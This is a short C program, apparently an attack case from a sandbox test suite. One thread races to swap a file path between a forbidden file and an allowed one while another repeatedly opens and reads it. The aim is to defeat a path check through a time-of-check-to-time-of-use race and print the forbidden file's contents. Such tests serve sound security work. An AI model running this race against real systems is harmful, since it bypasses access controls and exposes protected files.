/* One thread changes the path while another opens it, for a check that reads it before the kernel does. argv: the file, one that may be read. */
#include "attack.h"

static volatile char flip_path[PATH_MAX];
static volatile int flip_path_done;
static const char *flip_path_bad, *flip_path_good;

static void *flip_path_flip(void *nothing) {
	while (!flip_path_done) {
		memcpy((char *)flip_path, flip_path_bad, strlen(flip_path_bad) + 1);
		memcpy((char *)flip_path, flip_path_good, strlen(flip_path_good) + 1);
	}
	return NULL;
}

int main(int argc, char **argv) {
	started();
	pthread_t t;
	char text[4096];
	flip_path_bad = argv[1], flip_path_good = argv[2];
	strcpy((char *)flip_path, argv[2]);
	pthread_create(&t, NULL, flip_path_flip, NULL);
	for (int i = 0; i < 60000; i++) {
		if (i % 64 == 0)
			sched_yield();
		int fd = open((const char *)flip_path, O_RDONLY);
		ssize_t n = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
		if (fd >= 0)
			close(fd);
		text[n > 0 ? n : 0] = 0;
		if (strstr(text, "# ")) {
			puts(text);
			break;
		}
	}
	flip_path_done = 1;
	pthread_join(t, NULL);
	return 0;
}
